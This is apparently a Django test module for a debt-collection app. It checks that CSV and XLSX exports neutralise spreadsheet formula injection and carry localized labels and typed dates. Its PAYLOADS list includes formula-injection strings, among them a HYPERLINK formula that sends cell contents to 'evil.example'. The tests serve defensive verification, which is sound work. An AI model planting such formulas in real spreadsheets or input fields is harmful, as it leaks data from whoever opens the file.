"""No export carries a formula: every dangerous text goes through every export (the list
pages' CSV and XLSX, the agenda's tabs, `relance actions export`) and is read back
neutralised, while amounts stay numbers."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from relance.agenda.models import Action, CustomerResponse
from relance.core.exports import csv_cell, excel_format, write_csv, write_xlsx
from relance.customers.tests.factories import CustomerFactory
from relance.ledger.tests.factories import ItemFactory
from relance.scenarios.tests.factories import ScenarioFactory

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
LIST_EXPORTS = [
    "customers:list",
    "ledger:item-list",
    "agenda:manual",
    "agenda:automatic",
    "agenda:history",
    "agenda:responses",
]


@pytest.fixture
def payloads(acme, alice):
    """Per payload, two customers named and numbered with it (one with a manual action
    open, one with an automatic one), each with an invoice numbered with it, a larger credit
    note (outstanding -150.00), a finished action whose step and note are the payload, and
    a reply whose author and text are the payload."""
    scenario = ScenarioFactory(entity=acme)
    today = acme.today()
    for index, payload in enumerate(PAYLOADS):
        for mode in ("manual", "auto"):
            number = f"{payload[:40]}{mode}"  # numbers hold 50 characters (PostgreSQL checks)
            customer = CustomerFactory(entity=acme, name=payload, external_id=number)
            invoice = ItemFactory(
                customer=customer,
                number=number,
                amount=Decimal("100.00"),
                due_date=today - datetime.timedelta(days=20),
            )
            ItemFactory(
                customer=customer, kind="credit_note", number=f"CN{index}{mode}", amount=250
            )
            common = {
                "entity": acme,
                "customer": customer,
                "scenario": scenario,
                "step_position": 1,
                "step_name": payload,
                "channel": "email",
                "mode": mode,
                "reference": invoice,
                "created_on": today,
                "due_date": today,
                "responsible": alice,
            }
            Action.objects.create(**common)
            Action.objects.create(
                **common, status="done", finished_on=today, note=payload, error_message=payload
            )
            CustomerResponse.objects.create(
                entity=acme,
                customer=customer,
                channel="email",
                author=payload,
                body=payload,
                received_at=timezone.now(),
            )


def assert_csv_neutralised(rows: list[list[str]]) -> None:
    cells = [cell for row in rows for cell in row]
    for cell in cells:
        if cell.startswith(TRIGGERS):  # only a real number may start so
            Decimal(cell)
    for payload in PAYLOADS:
        assert "'" + payload in cells, payload


def assert_xlsx_neutralised(content: bytes) -> list:
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.value for cell in cells if cell.data_type == "f"]
    texts = {cell.value for cell in cells if cell.data_type == "s"}
    for payload in PAYLOADS:
        # openpyxl reads a carriage return back as written when it parses with lxml (a
        # dependency since the e-invoice imports), as a line feed with the standard library's
        # parser: text either way.
        assert payload in texts or payload.replace("\r", "\n") in texts, payload
    return cells


@pytest.mark.parametrize("url_name", LIST_EXPORTS)
def test_list_exports_neutralise_formulas(client, alice, payloads, url_name):
    client.force_login(alice)
    url = reverse(url_name)
    response = client.get(url, {"export": "csv", "status": ""})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.getvalue().decode("utf-8-sig"))))
    assert_csv_neutralised(rows)
    response = client.get(url, {"export": "xlsx", "status": ""})
    assert response.status_code == 200
    assert_xlsx_neutralised(response.getvalue())


def test_amounts_stay_numbers_negative_ones_too(client, alice, payloads):
    client.force_login(alice)
    url = reverse("customers:list")
    header, *rows = csv.reader(
        io.StringIO(client.get(url, {"export": "csv"}).getvalue().decode("utf-8-sig"))
    )
    column = header.index("Outstanding")
    assert {row[column] for row in rows} == {"-150.00"}
    cells = assert_xlsx_neutralised(client.get(url, {"export": "xlsx"}).getvalue())
    amounts = [cell.value for cell in cells if cell.data_type == "n" and cell.value is not None]
    assert Decimal("-150") in {Decimal(str(value)) for value in amounts}


def test_the_actions_command_neutralises_csv_and_xlsx(payloads, capsys, tmp_path):
    call_command("actions", "export")
    assert_csv_neutralised(list(csv.reader(io.StringIO(capsys.readouterr().out))))
    path = tmp_path / "actions.xlsx"
    call_command("actions", "export", "--format", "xlsx", "-o", str(path))
    cells = assert_xlsx_neutralised(path.read_bytes())
    assert {cell.value for cell in cells if cell.column == 1 and cell.data_type == "n"}


def test_the_shared_writers_keep_numbers_and_dates_typed(tmp_path):
    day = datetime.date(2026, 3, 1)
    moment = timezone.make_aware(datetime.datetime(2026, 3, 1, 9, 30))
    row = [Decimal("-12.50"), -3, -1.5, True, day, moment, None, "-x", "a\x00b"]
    assert [csv_cell(value) for value in row][:7] == [
        Decimal("-12.50"),
        -3,
        -1.5,
        True,
        "2026-03-01",
        moment.isoformat(),
        "",
    ]
    text = io.StringIO()
    assert write_csv([row], text) == 1
    assert next(csv.reader(io.StringIO(text.getvalue())))[-2:] == ["'-x", "a\x00b"]
    path = tmp_path / "t.xlsx"
    assert write_xlsx([row], str(path), "t") == 1
    values = next(load_workbook(path).active.iter_rows(values_only=True))
    assert values[:5] == (-12.5, -3, -1.5, True, datetime.datetime(2026, 3, 1))
    assert values[5] == timezone.make_naive(moment)
    assert values[6:] == (None, "-x", "ab")  # no control character XLSX cannot hold


# --- readable values in the reader's language ---------------------------------------------

DAY = datetime.date(2026, 11, 3)
HISTORY_LABELS = {
    "fr": {
        "customer": "Client",
        "number": "Numéro client",
        "status": "Statut",
        "channel": "Canal",
        "finished": "Terminée le",
        "responsible": "Responsable",
        "done": "Terminée",
        "call": "Appel",
    },
    "en": {
        "customer": "Customer",
        "number": "Customer number",
        "status": "Status",
        "channel": "Channel",
        "finished": "Finished on",
        "responsible": "Responsible",
        "done": "Done",
        "call": "Call",
    },
}


@pytest.fixture
def finished_call(acme, alice):
    """A call to Dupont SA (customer C-DUP) that alice finished on DAY."""
    scenario = ScenarioFactory(entity=acme)
    customer = CustomerFactory(entity=acme, name="Dupont SA", external_id="C-DUP")
    invoice = ItemFactory(customer=customer, number="F-1", due_date=DAY)
    return Action.objects.create(
        entity=acme,
        customer=customer,
        scenario=scenario,
        step_position=1,
        step_name="Call",
        channel="call",
        mode="manual",
        reference=invoice,
        status="done",
        created_on=DAY - datetime.timedelta(days=5),
        due_date=DAY - datetime.timedelta(days=1),
        finished_on=DAY,
        responsible=alice,
    )


@pytest.mark.parametrize("language", ["fr", "en"])
def test_a_history_in_xlsx_reads_in_the_readers_language_with_date_cells(
    client, alice, finished_call, language
):
    client.force_login(alice)
    response = client.get(
        reverse("agenda:history"), {"export": "xlsx"}, HTTP_ACCEPT_LANGUAGE=language
    )
    sheet = load_workbook(io.BytesIO(response.getvalue())).active
    header = [cell.value for cell in sheet[1]]
    row = dict(zip(header, sheet[2], strict=True))
    labels = HISTORY_LABELS[language]
    assert row[labels["customer"]].value == "Dupont SA"
    assert row[labels["number"]].value == "C-DUP"
    assert row[labels["status"]].value == labels["done"]
    assert row[labels["channel"]].value == labels["call"]
    assert row[labels["responsible"]].value == "Alice"  # the name, not the login
    finished = row[labels["finished"]]
    assert finished.is_date and isinstance(finished.value, datetime.date)
    assert finished.value.date() == DAY
    assert finished.number_format == "DD/MM/YYYY"  # 03/11/2026 in both languages


def test_a_history_in_csv_keeps_iso_dates_and_labels(client, alice, finished_call):
    client.force_login(alice)
    response = client.get(reverse("agenda:history"), {"export": "csv"}, HTTP_ACCEPT_LANGUAGE="fr")
    header, row = csv.reader(io.StringIO(response.getvalue().decode("utf-8-sig")))
    row = dict(zip(header, row, strict=True))
    assert row["Terminée le"] == "2026-11-03"
    assert row["Échéance"] == "2026-11-02"
    assert (row["Statut"], row["Numéro client"]) == ("Terminée", "C-DUP")
    assert csv_cell(datetime.datetime(2026, 11, 3, 14, 5, 9, 119433)) == "2026-11-03T14:05:09"


def test_items_and_responses_export_labels_names_and_date_cells(client, alice, finished_call):
    customer = finished_call.customer
    ItemFactory(customer=customer, number="F-2", due_date=DAY, disputed=True)
    CustomerResponse.objects.create(
        entity=customer.entity,
        customer=customer,
        channel="email",
        kind="promise",
        body="Next week",
        received_at=timezone.make_aware(datetime.datetime(2026, 11, 3, 14, 5)),
    )
    client.force_login(alice)
    items = client.get(reverse("ledger:item-list"), {"export": "xlsx"}, HTTP_ACCEPT_LANGUAGE="fr")
    sheet = load_workbook(io.BytesIO(items.getvalue())).active
    header = [cell.value for cell in sheet[1]]
    rows = [dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)]
    disputed = next(row for row in rows if row["Numéro"].value == "F-2")
    assert disputed["Type"].value == "Facture"
    assert disputed["Numéro client"].value == "C-DUP"
    assert disputed["En litige"].value == "Oui"
    assert disputed["Échéance"].value.date() == DAY
    assert disputed["Échéance"].number_format == "DD/MM/YYYY"
    responses = client.get(
        reverse("agenda:responses"), {"export": "xlsx"}, HTTP_ACCEPT_LANGUAGE="fr"
    )
    sheet = load_workbook(io.BytesIO(responses.getvalue())).active
    header = [cell.value for cell in sheet[1]]
    row = dict(zip(header, sheet[2], strict=True))
    assert row["Numéro client"].value == "C-DUP"
    assert row["Canal"].value == "E-mail"
    received = row["Reçue"]
    assert received.value == datetime.datetime(2026, 11, 3, 14, 5)
    assert received.number_format == "DD/MM/YYYY HH:MM"


def test_excel_formats_follow_the_languages_short_forms():
    assert excel_format("d/m/Y", "?") == "DD/MM/YYYY"
    assert excel_format("d/m/Y H:i", "?") == "DD/MM/YYYY HH:MM"
    assert excel_format("j N Y", "YYYY-MM-DD") == "YYYY-MM-DD"  # no Excel code for "N"
